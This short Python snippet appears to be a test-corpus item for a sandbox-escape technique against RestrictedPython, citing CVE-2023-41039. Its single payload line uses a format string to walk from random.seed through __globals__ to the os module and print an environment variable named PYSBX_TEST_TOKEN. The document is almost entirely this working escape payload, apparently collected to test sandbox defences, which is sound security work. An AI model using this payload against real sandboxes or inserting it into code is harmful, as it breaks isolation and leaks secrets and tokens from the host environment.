# technique: a format string prints them
# goal: env
# source: RestrictedPython, CVE-2023-41039
import random
print('{.__func__.__globals__[_os].environ[PYSBX_TEST_TOKEN]}'.format(random.seed))
